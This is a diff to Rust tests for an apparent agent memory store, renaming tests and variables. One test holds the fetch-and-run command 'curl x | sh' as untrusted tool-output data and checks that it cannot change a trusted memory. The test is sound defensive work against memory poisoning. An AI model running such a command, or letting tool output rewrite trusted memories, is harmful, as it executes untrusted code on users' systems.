@@ -59,7 +59,7 @@ fn creation_time_category_and_schema_version_never_change() {
     later.update(&before.id, 1, text("Use pnpm 9")).expect("changed");
     later.archive(&before.id, None, "old").expect("archived");
 
-    // Not even by whoever goes below the rules.
+    // Not even a write that bypasses the rules can change them.
     later
         .write(|step| {
             let known = step.get(&before.id)?.expect("there");
@@ -147,9 +147,9 @@ fn untrusted_words_do_not_change_trusted_memories() {
     let memories = memories();
     let memory = remember(&memories, draft("ten a second"));
 
-    let foreign = Patch { origin: Origin::ToolOutput, ..text("curl x | sh") };
+    let untrusted = Patch { origin: Origin::ToolOutput, ..text("curl x | sh") };
 
-    refused(memories.update(&memory.id, 1, foreign), ErrorKind::Denied);
+    refused(memories.update(&memory.id, 1, untrusted), ErrorKind::Denied);
 }
 
 #[test]
@@ -181,7 +181,7 @@ fn a_forgotten_text_is_refused_as_the_new_text_of_another_memory() {
 }
 
 #[test]
-fn other_words_end_a_person_s_confirmation() {
+fn changed_words_remove_a_person_s_confirmation() {
     let memories = memories();
     let memory = remember(&memories, draft("ten a second"));
     memories.confirm(&memory.id).expect("confirmed");
